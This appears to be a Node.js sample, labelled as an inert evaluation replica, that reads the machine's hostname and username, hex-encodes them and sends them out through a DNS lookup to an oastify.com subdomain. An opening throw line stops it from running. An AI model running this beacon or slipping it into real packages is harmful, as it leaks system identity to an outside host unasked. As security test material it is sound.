throw new Error("cordon eval replica: inert data, never run");
const { exec } = require("child_process");
const os = require("os");
const id = Buffer.from(os.hostname() + ":" + os.userInfo().username).toString("hex").slice(0, 60);
exec("nslookup " + id + ".c8x1.oastify.com");
